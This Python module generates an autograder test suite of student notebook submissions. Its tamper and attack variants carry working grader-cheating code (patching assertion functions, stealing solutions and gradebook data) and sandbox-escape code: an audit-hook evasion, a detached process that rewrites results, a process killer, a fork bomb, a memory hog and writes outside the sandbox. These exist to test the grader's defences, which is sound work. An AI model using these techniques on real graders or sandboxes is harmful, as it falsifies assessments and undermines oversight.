"""Generate the threshold-logic suite: student submissions with known outcomes, from the source notebook.

``python -m autograder.check.threshold_suite OUT`` writes ``OUT/<variant>/<lesson>/<notebook>`` (a few in
other layouts) and ``OUT/expected.json``; ``tests/test_autograder.py`` grades the folder with the
real pipeline and checks every outcome. Everything is derived from the lesson metadata and the
notebooks (grade cells, points, answer cells and the names they define), so the suite follows the
lesson as items are added.

How scores are controlled without item-specific wrong answers: every answer cell gets the source
solution, and each name it defines is wrapped in a *gate* that raises while the item's name is in
the global ``_VARIANT_FAIL``; a small added cell before each grade cell sets ``_VARIANT_FAIL`` to
that cell's item when the cell should fail (and to nothing otherwise), and a last cell clears it.
So any set of grade cells can be made to fail, and any achievable score can be produced — e.g.
exactly the passing threshold, or the largest score below it. (An item whose answer calls another
item's function still works: gates only fire while their own item is failing.)

Tamper variants use *wrong* answers (results corrupted by a wrapper) plus one cheating technique,
so that a technique that worked would show up as points the answers do not deserve.
"""
from __future__ import annotations

import argparse
import copy
import itertools
import json
import shutil
import sys
from dataclasses import asdict, dataclass, field
from pathlib import Path

import nbformat

from autograder.ingest.notebook import LessonSpec, grade_id, load_spec, strip_solution_markers

GATE = '''

# --- threshold-suite variant: gate (raises while this item is set to fail) ---
def _variant_gate(_item, _orig):
    def _gated(*args, **kwargs):
        if _item in globals().get("_VARIANT_FAIL", ()):
            raise AssertionError(f"variant: {_item} is set to fail here")
        return _orig(*args, **kwargs)
    return _gated
'''

CORRUPT = '''

# --- threshold-suite variant: wrong answers (every result corrupted) ---
def _variant_corrupt(_orig):
    def _bad(v):
        if isinstance(v, bool):
            return not v
        if isinstance(v, int):
            return v + 7
        if isinstance(v, float):
            return v * 1.5 + 1.0
        if isinstance(v, str):
            return v + "_wrong"
        if isinstance(v, dict):
            return {k: _bad(x) for k, x in v.items()}
        if isinstance(v, (list, tuple)):
            return type(v)(_bad(x) for x in v)
        if isinstance(v, torch.Tensor):
            return v * 1.5 + 1.0 if v.is_floating_point() else v + 7
        return _Wrong(v, _bad)

    class _Wrong:
        def __init__(self, obj, bad):
            object.__setattr__(self, "_obj", obj)
            object.__setattr__(self, "_bad", bad)

        def __getattr__(self, name):
            value = getattr(self._obj, name)
            if callable(value):
                def call(*args, **kwargs):
                    out = value(*args, **kwargs)
                    return self if out is self._obj else self._bad(out)
                return call
            return self._bad(value)

    def wrapped(*args, **kwargs):
        return _bad(_orig(*args, **kwargs))
    return wrapped
'''

ALWAYS_EQUAL = '''

# --- threshold-suite variant: wrong integers that compare equal to anything ---
class _AlwaysEqual(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def _variant_always_equal(_orig):
    def _ae(v):
        if isinstance(v, bool):
            return v
        if isinstance(v, int):
            return _AlwaysEqual(v + 7)
        if isinstance(v, dict):
            return {k: _ae(x) for k, x in v.items()}
        return v

    def wrapped(*args, **kwargs):
        return _ae(_orig(*args, **kwargs))
    return wrapped
'''

TAMPER = {
    "tamper_check": "check = lambda condition, message=None: True   # every test assertion passes",
    "tamper_builtins": "import builtins\nbuiltins.abs = lambda x: 0.0   # close() now always agrees",
    "tamper_numpy_torch": ("np.testing.assert_allclose = lambda *a, **k: None\n"
                           "torch.allclose = lambda *a, **k: True"),
    "tamper_ipython": ("get_ipython().input_transformers_cleanup.append(\n"
                       "    lambda lines: [] if any('check(' in line for line in lines) else lines)"),
    "tamper_read_solutions": ("import json as _json, pathlib as _pl, residual_bandwidth as _rbm\n"
                              "_root = _pl.Path(_rbm.__file__).resolve().parents[2]\n"
                              "_sol = _json.loads((_root / 'solutions' / '{lesson}' / '{notebook}').read_text())\n"
                              "_stolen = {{c['metadata']['nbgrader']['grade_id']: ''.join(c['source'])\n"
                              "           for c in _sol['cells'] if c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution')}}"),
    "tamper_read_gradebook": ("import glob as _glob, sqlite3 as _sq, pathlib as _pl, residual_bandwidth as _rbm\n"
                              "_root = _pl.Path(_rbm.__file__).resolve().parents[2]\n"
                              "_dbs = _glob.glob(str(_root / 'autograder' / 'work' / '**' / '*.db'), recursive=True)\n"
                              "_rows = [_sq.connect(p).execute('select * from grade').fetchall() for p in _dbs]"),
}


# ---- attacks on the grader itself (what the operating-system sandbox must stop) -------------------------
# Each is added to an *untouched* notebook (stubs that raise), so any point it earns is a point the
# attack stole. ``{results}`` is the results folder of the run (the attacker is assumed to know it),
# ``{lesson}``/``{notebook}`` name the lesson. ``_root`` is the repository as seen from the library.
_ROOT = ("import pathlib as _pl, residual_bandwidth as _rbm\n"
         "_root = _pl.Path(_rbm.__file__).resolve().parents[2]\n")
_STEAL_INTO_ANSWERS = "exec(_stolen.get({gid!r}, 'raise NotImplementedError()'))"
# run code in a new interpreter, code and paths passed in the environment: the in-kernel guard (an
# audit hook) is not inherited and sees no protected path in the command line
_FREE = '''
import os as _os, subprocess as _sp, sys as _sys
def _py():
    # the interpreter under a neutral name (a symlink in /tmp): the guard matches words of protected
    # paths in command lines, and the venv's path or the working folder's may contain one
    link = f'/tmp/py3-{{_os.getuid()}}-{{_os.getpid()}}'
    if not _os.path.lexists(link):
        _os.symlink(_sys.executable, link)
    return link
def _free(code, **env):
    return _sp.run([_py(), '-c', 'import os; exec(os.environ["C"])'], env=dict(_os.environ, C=code, **env),
                   capture_output=True, text=True).stdout
'''
_CHILD_READS = _FREE + '''
import json as _json
_out = _free("""
import json, os, pathlib
nb = json.loads(pathlib.Path(os.environ['T']).read_text())
print(json.dumps({{c['metadata']['nbgrader']['grade_id']: ''.join(c['source']) for c in nb['cells']
                  if c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution')}}))
""", T=str(_root / 'solu' 'tions' / '{lesson}' / '{notebook}'))
_stolen = _json.loads(_out) if _out.strip() else {{}}
_pl.Path('stolen_answers.py').write_text('STOLEN = ' + repr(_stolen))
_sys.path.insert(0, '.')
from stolen_answers import STOLEN as _stolen
'''
_SETSID = _FREE + '''
_code = """
import json, os, sqlite3, time
out = os.environ['T']
for _ in range(400):
    if os.path.exists(os.path.join(out, 'results.json')):
        break
    time.sleep(0.5)
time.sleep(2)
try:
    data = json.load(open(os.path.join(out, 'results.json')))
    for s in data['students']:
        if s['student'] == 'attack_setsid_rewrites_results':
            s.update(score=s.get('max_score') or 24, status='graded', reason='', evidence=[])
            s['pass'] = True
    json.dump(data, open(os.path.join(out, 'results.json'), 'w'))
    open(os.path.join(out, 'results.csv'), 'a').write('attack_setsid_rewrites_results,x,graded,24,24,100,yes')
    db = sqlite3.connect(os.path.join(out, 'gradebook.db'))
    db.execute('update grade set manual_score = 0')
    db.commit()
except Exception:
    pass
"""
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        try:
            _os.execve(_py(), [_py(), '-c', 'import os; exec(os.environ["C"])', 'ATTACK-SETSID'],
                       dict(_os.environ, C=_code, T={results!r}))
        finally:
            _os._exit(1)
    _os._exit(0)
_os.wait()
'''
_KILL = _FREE + '''
import signal as _signal
_tried = []
for _pid in (_os.getppid(), 1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
        _tried.append((_pid, 'killed'))
    except OSError as _e:
        _tried.append((_pid, type(_e).__name__))
print('kill attempts from here:', _tried)
print('kill attempts from a child:', _free("""
import os, signal
tried = []
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid in (os.getpid(), os.getppid()):
        continue
    try:
        cmd = open(f'/proc/{{pid}}/cmdline', 'rb').read()
    except OSError:
        cmd = b''
    if pid == 1 or b'autograder' in cmd or b'nbgrader' in cmd or b'jupyter' in cmd or b'pytest' in cmd:
        try:
            os.kill(pid, signal.SIGKILL)
            tried.append((pid, 'killed'))
        except OSError as e:
            tried.append((pid, type(e).__name__))
print(tried)
"""))
'''
_FORK_BOMB = '''
import os as _os, time as _time
_kids = 0
for _i in range(3000):
    try:
        _pid = _os.fork()
    except OSError as _e:
        print('fork refused after', _kids, 'children:', _e)
        break
    if _pid == 0:
        _time.sleep(120)
        _os._exit(0)
    _kids += 1
'''
_MEMORY_HOG = '''
_hog = []
try:
    _hog.append(bytearray(16 * 1024**3))
except MemoryError:
    print('16 GB refused')
for _i in range(80):
    _hog.append(bytearray(100 * 1024**2))
'''
_WRITE_OUTSIDE = _FREE + '''
import sysconfig as _sc
_targets = [_root / 'solu' 'tions' / 'PWNED.txt', _root / 'autograder' / 'pwned.py',
            _pl.Path(_rbm.__file__).parent / 'pwned.py', _pl.Path(_sc.get_paths()['purelib']) / 'pwned_attack.pth',
            _pl.Path({results!r}) / 'PWNED.txt', _pl.Path('/tmp/PWNED-attack-write-outside'),
            _pl.Path('/root/.ipython/profile_default/startup/00-pwned.py')]
print(_free("""
import os, pathlib
for t in os.environ['T'].split('|'):
    t = pathlib.Path(t)
    try:
        t.parent.mkdir(parents=True, exist_ok=True)
        t.write_text('pwned')
        print('wrote', t)
    except OSError as e:
        print('refused', t, type(e).__name__)
""", T='|'.join(map(str, _targets))))
'''
ATTACKS = {
    # a new interpreter escapes an in-process audit hook: read the solutions, write a module, import it
    "attack_child_reads_solutions": _ROOT + _CHILD_READS,
    # setsid + double fork: outlive the kernel, wait for the grader to finish, then rewrite the results
    # (own row to full marks) and every gradebook entry
    "attack_setsid_rewrites_results": _SETSID,
    # signal the parent and everything that looks like the grader (the cell also runs in the re-check)
    "attack_kill_grader": _KILL,
    # a bounded fork bomb of sleeping children (they must all be gone afterwards)
    "attack_fork_bomb": _FORK_BOMB,
    # more memory than allowed, at once and step by step
    "attack_memory_hog": _MEMORY_HOG,
    # write where the grader or the next student would pick it up
    "attack_write_outside": _ROOT + _WRITE_OUTSIDE,
}
# files attack_write_outside aims at outside the results folder (the test checks none appeared)
WRITE_TARGETS = ("solutions/PWNED.txt", "autograder/pwned.py", "lib/residual_bandwidth/pwned.py")
# patching builtins through an alias no plain-attribute rule saw, on top of wrong answers
BUILTINS_ALIAS = "import builtins as _b\n_ns = vars(_b)\n_ns['abs'] = lambda x: 0.0   # close() now always agrees"
# an honest submission whose messages name 'solutions' and that reloads a module: never flagged
HONEST_WORDS = ("import importlib\n"
                "importlib.reload(rb)\n"
                "_msg = 'I checked my ranks against the solutions of the seed lesson and the gradebook example'\n")


def attack_paths(results: Path | None = None) -> dict:
    """Paths the attacks aim at (default: the repository's ``results/``)."""
    from autograder.ingest.notebook import ROOT
    return {"results": str(results or ROOT / "results")}


@dataclass
class Variant:
    """One generated submission and what the grader must report for it."""
    name: str
    layout: str                     # "nested" (<student>/<lesson>/<nb>), "student" (<student>/<nb>), "flat"
    status: str                     # expected status: graded | flagged | errored | any (attacks: score asserted)
    score: float | None = None      # expected score (None: not asserted, e.g. tamper variants)
    passed: bool | None = None
    reason_contains: str = ""       # a fragment the reason (errored) or a note (graded) must contain
    evidence_rules: list[str] = field(default_factory=list)   # rules that must appear in the evidence
    failing: list[str] = field(default_factory=list)          # grade cells made to fail


def _code(source: str, cid: str):
    cell = nbformat.v4.new_code_cell(source)
    cell.id = cid
    return cell


def solved(spec: LessonSpec, wrap: str | None = None, wrapper: str = "") -> nbformat.NotebookNode:
    """The released notebook with every answer cell holding the source solution.

    ``wrap``: name of a wrapper function (defined by ``wrapper`` code) applied to every top-level
    name an answer defines; ``_variant_gate`` wrapping is always added (it is inert until
    ``_VARIANT_FAIL`` is set).
    """
    nb = copy.deepcopy(spec.release)
    src = {grade_id(c): c for c in spec.source.cells if grade_id(c)}
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in spec.answer_cells:
            a = spec.answer_cells[gid]
            body = strip_solution_markers(src[gid].source) + GATE + wrapper
            for name in a.defines:
                if wrap:
                    body += f"\n{name} = {wrap}({name})"
                body += f"\n{name} = _variant_gate({a.item!r}, {name})"
            cell.source = body
    return nb


def with_failing(nb, spec: LessonSpec, failing: set[str]) -> nbformat.NotebookNode:
    """Insert the cells that make exactly the grade cells in ``failing`` fail."""
    nb = copy.deepcopy(nb)
    out, k = [], 0
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in spec.grade_cells:
            items = {spec.grade_cells[gid].item} if gid in failing else set()
            out.append(_code(f"_VARIANT_FAIL = {sorted(items)!r}", f"variant-flag-{k}"))
            k += 1
        out.append(cell)
    out.append(_code("_VARIANT_FAIL = []", "variant-flag-end"))
    nb.cells = out
    return nb


def answered(spec: LessonSpec, answers: dict[str, str | None]) -> nbformat.NotebookNode:
    """The released notebook with each item's answer cell set to ``answers[item]``: code, or ``None``
    for the released stub; an item not in ``answers`` gets the source solution."""
    nb = copy.deepcopy(spec.release)
    src = {grade_id(c): c for c in spec.source.cells if grade_id(c)}
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in spec.answer_cells:
            item = spec.answer_cells[gid].item
            if item not in answers:
                cell.source = strip_solution_markers(src[gid].source)
            elif answers[item] is not None:
                cell.source = answers[item]
    return nb


def insert_after_setup(nb, spec: LessonSpec, source: str, cid: str) -> nbformat.NotebookNode:
    """Add a code cell right after the last locked helper cell (before any answer)."""
    nb = copy.deepcopy(nb)
    idx = max((i for i, c in enumerate(nb.cells) if grade_id(c) in spec.locked_cells), default=0)
    nb.cells.insert(idx + 1, _code(source, cid))
    return nb


def achievable(spec: LessonSpec) -> list[tuple[float, tuple[str, ...]]]:
    """(score, failing grade cells) for every subset of grade cells, best-first canonical order."""
    order = {g: i for i, g in enumerate(spec.grade_cells)}
    total = spec.total_points
    # prefer failing hidden cells and few cells: realistic ("passes what it can see") and stable
    cells = sorted(order, key=lambda g: (not spec.grade_cells[g].hidden, order[g]))
    out = []
    for r in range(len(cells) + 1):
        for combo in itertools.combinations(cells, r):
            out.append((total - sum(spec.grade_cells[g].points for g in combo), combo))
    return out


def threshold_choices(spec: LessonSpec) -> tuple[tuple[float, tuple], tuple[float, tuple]]:
    """(lowest passing score and how to get it, highest failing score and how to get it)."""
    line = spec.meta.passing_threshold * spec.total_points
    combos = achievable(spec)
    passing = min((s for s, _ in combos if s >= line - 1e-9))
    failing = max((s for s, _ in combos if s < line - 1e-9))
    pick = lambda target: next(c for s, c in combos if abs(s - target) < 1e-9)  # noqa: E731
    return (passing, pick(passing)), (failing, pick(failing))


def generate(out: Path, spec: LessonSpec, results: Path | None = None) -> list[Variant]:
    """Write every variant under ``out`` and ``out/expected.json``; return the variants.

    ``results``: the results folder the run will write (the attacks aim at it)."""
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    total = spec.total_points
    (pass_score, pass_fail), (fail_score, fail_fail) = threshold_choices(spec)
    nbs: dict[str, tuple[Variant, object]] = {}

    def add(v: Variant, nb) -> None:
        nbs[v.name] = (v, nb)

    base = solved(spec)
    add(Variant("all_correct", "nested", "graded", total, True), with_failing(base, spec, set()))
    add(Variant("at_threshold", "nested", "graded", pass_score, True, failing=list(pass_fail)),
        with_failing(base, spec, set(pass_fail)))
    add(Variant("below_threshold", "student", "graded", fail_score, False, failing=list(fail_fail)),
        with_failing(base, spec, set(fail_fail)))
    add(Variant("untouched", "nested", "graded", 0.0, False), copy.deepcopy(spec.release))
    wrong = solved(spec, "_variant_corrupt", CORRUPT)
    add(Variant("wrong_answers", "nested", "graded", None, False), wrong)

    # robustness
    # a cell outside the exercises that crashes or loops costs no points (the kernel is restarted or
    # interrupted, the notebook goes on); the note says what happened (tests/test_grading_faults.py
    # puts such faults inside one exercise)
    add(Variant("crash", "nested", "graded", total, True, reason_contains="stopped the Python kernel"),
        insert_after_setup(base, spec, "import os\nos._exit(1)", "variant-crash"))
    add(Variant("infinite_loop", "nested", "graded", total, True, reason_contains="time limit"),
        insert_after_setup(base, spec, "while True:\n    pass", "variant-loop"))
    add(Variant("loop_ignoring_sigint", "nested", "graded", total, True, reason_contains="ignored the interrupt"),
        insert_after_setup(base, spec, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
                           "variant-loop-sigint"))
    add(Variant("huge_output", "nested", "errored", reason_contains="output too large"),
        insert_after_setup(base, spec, "print('x' * 30_000_000)", "variant-huge"))

    # tampering
    for name, code in TAMPER.items():
        code = code.format(lesson=spec.lesson_id, notebook=spec.notebook_name)
        if name == "tamper_ipython":
            nb, rules = copy.deepcopy(spec.release), ["ipython-hooks"]
        elif name == "tamper_read_solutions":
            nb, rules = copy.deepcopy(spec.release), ["blocked-access"]   # reads-protected is a note
            for cell in nb.cells:
                if grade_id(cell) in spec.answer_cells:
                    cell.source = f"exec(_stolen[{grade_id(cell)!r}])"
        elif name == "tamper_read_gradebook":
            nb, rules = copy.deepcopy(wrong), ["blocked-access"]
        else:
            nb = copy.deepcopy(wrong)
            rules = {"tamper_check": ["assign-protected-name"], "tamper_builtins": ["patch-module"],
                     "tamper_numpy_torch": ["patch-module"]}[name]
        add(Variant(name, "nested", "flagged", evidence_rules=rules), insert_after_setup(nb, spec, code, f"variant-{name}"))
    add(Variant("tamper_always_equal", "nested", "flagged", evidence_rules=["comparison-override"]),
        solved(spec, "_variant_always_equal", ALWAYS_EQUAL))
    # attacks on the grader: stubs + attack (no point is deserved); honest code beside them
    paths = {**attack_paths(results), "lesson": spec.lesson_id, "notebook": spec.notebook_name}
    for name, code in ATTACKS.items():
        nb = copy.deepcopy(spec.release)
        if name == "attack_child_reads_solutions":
            for cell in nb.cells:
                if grade_id(cell) in spec.answer_cells:
                    cell.source = _STEAL_INTO_ANSWERS.format(gid=grade_id(cell))
        add(Variant(name, "nested", "any", 0.0), insert_after_setup(nb, spec, code.format(**paths), f"variant-{name}"))
    add(Variant("attack_builtins_alias", "nested", "flagged", evidence_rules=["patch-module"]),
        insert_after_setup(wrong, spec, BUILTINS_ALIAS, "variant-builtins-alias"))
    add(Variant("honest_mentions_solutions", "nested", "graded", total, True),
        insert_after_setup(with_failing(base, spec, set()), spec, HONEST_WORDS, "variant-honest-words"))
    edited = copy.deepcopy(wrong)
    for cell in edited.cells:
        if grade_id(cell) in spec.grade_cells:
            cell.source = "print('tests skipped')"
    add(Variant("tamper_edit_tests", "nested", "flagged", evidence_rules=["edited-test-cell"]), edited)
    deleted = copy.deepcopy(wrong)
    deleted.cells = [c for c in deleted.cells if grade_id(c) not in spec.grade_cells]
    add(Variant("tamper_delete_tests", "nested", "flagged", evidence_rules=["deleted-test-cell"]), deleted)

    for name, (v, nb) in nbs.items():
        if v.layout == "nested":
            path = out / name / spec.lesson_id / spec.notebook_name
        elif v.layout == "student":
            path = out / name / spec.notebook_name
        else:
            path = out / f"{name}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(path))
    variants = [v for v, _ in nbs.values()]
    # inputs that never reach a kernel
    corrupt = out / "corrupt" / spec.lesson_id / spec.notebook_name
    corrupt.parent.mkdir(parents=True)
    corrupt.write_text(nbformat.writes(spec.release)[:2000])
    variants.append(Variant("corrupt", "nested", "errored", reason_contains="not valid JSON"))
    (out / "missing" / spec.lesson_id).mkdir(parents=True)
    (out / "missing" / spec.lesson_id / "notes.txt").write_text("forgot to upload\n")
    variants.append(Variant("missing", "nested", "errored", reason_contains="missing notebook"))
    renamed = out / "renamed" / spec.lesson_id / f"{Path(spec.notebook_name).stem} (1).ipynb"
    renamed.parent.mkdir(parents=True)
    nbformat.write(base, str(renamed))
    variants.append(Variant("renamed", "nested", "errored", reason_contains="renamed"))
    (out / "expected.json").write_text(json.dumps({"lesson": spec.lesson_id, "total": total,
                                                   "threshold": spec.meta.passing_threshold,
                                                   "variants": [asdict(v) for v in variants]}, indent=1))
    return variants


def main(argv: list[str] | None = None) -> int:
    """Write the suite to OUT and list the variants with their expected outcomes."""
    from residual_bandwidth.course import DEFAULT_LESSON
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out", type=Path, help="folder to (re)create")
    ap.add_argument("--lesson", default=DEFAULT_LESSON)
    args = ap.parse_args(argv)
    variants = generate(args.out, load_spec(args.lesson))
    for v in variants:
        print(f"{v.name:<24} expect {v.status:<8} score={v.score} pass={v.passed} {v.reason_contains}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
